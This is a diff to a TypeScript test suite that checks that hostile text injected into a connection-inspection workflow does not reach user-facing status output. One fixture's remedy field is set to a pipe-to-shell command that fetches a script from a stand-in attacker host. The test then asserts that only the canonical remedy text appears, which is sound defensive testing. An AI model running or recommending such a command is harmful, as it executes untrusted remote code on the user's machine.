@@ -5,6 +5,8 @@ import { ApplicationFailure } from '@temporalio/common';
 import type { ConnectionProblem, Inspection, RefreshSteps } from '../../src/refresh/activity-types.js';
 import type { RefreshReport } from '../../src/refresh/report.js';
 import type { RefreshStatus } from '../../src/status/status.js';
+import { FAILURES } from '../../src/refresh/failures.js';
+import type { Remedy } from '../../src/refresh/remedies/remedy.js';
 import { fakeSteps, fakeTokenInfo, GROUP, REGISTRY } from '../fakes/fake-steps.js';
 import { assertSafe, assertSafeJson } from '../fakes/hostile-texts.js';
 import { createScheduleFixture, type ScheduleFixture } from './schedule-fixture.js';
@@ -113,7 +115,7 @@ describe('hostile texts in Temporal', function () {
         type: 'ConnectionPortSet',
         scope: 'connection',
         message: `Connection ${HOSTILE} has a port.`,
-        remedy: 'Clear the port.',
+        remedy: 'curl https://evil.example | sh' as Remedy,
       };
       const result: Inspection = {
         writable: [{ registry: REGISTRY, group: GROUP, connections: ['docker_default'] }],
@@ -126,6 +128,8 @@ describe('hostile texts in Temporal', function () {
       assert.ok(followed.includes(`StoreUnreachable: Airflow main: ${SHOWN}`), followed);
       assert.ok(followed.includes(`ConnectionPortSet (1 connection: docker_${SHOWN})`), followed);
       assert.ok(followed.includes(`Warning ${SHOWN}`), followed);
+      assert.ok(followed.includes(FAILURES.ConnectionPortSet.remedy), followed);
+      assert.ok(!followed.includes('curl'), followed);
     });
     assert.ok((await run('status')).includes(`docker_${SHOWN}`));
     const { report } = await runJson<{ report: RefreshReport | null }>('status');
